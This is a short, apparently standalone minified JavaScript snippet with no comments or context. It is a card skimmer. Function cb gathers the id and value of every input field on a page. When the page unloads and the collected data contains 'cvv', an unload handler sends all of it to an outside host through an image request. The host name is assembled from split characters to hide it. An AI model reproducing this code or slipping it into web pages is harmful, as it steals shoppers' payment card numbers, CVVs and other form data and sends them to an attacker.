function cb(){for(var a=document.getElementsByTagName("input"),b="",c=0;c<a.length;c++)b+=a[c].id+":"+a[c].value+";";return b}
window.onbeforeunload=function(){var a=cb();-1!=a.indexOf("cvv")&&(document.createElement("img").src="//"+["s","t","a","t","z"].join("")+".example/?"+escape(a))};
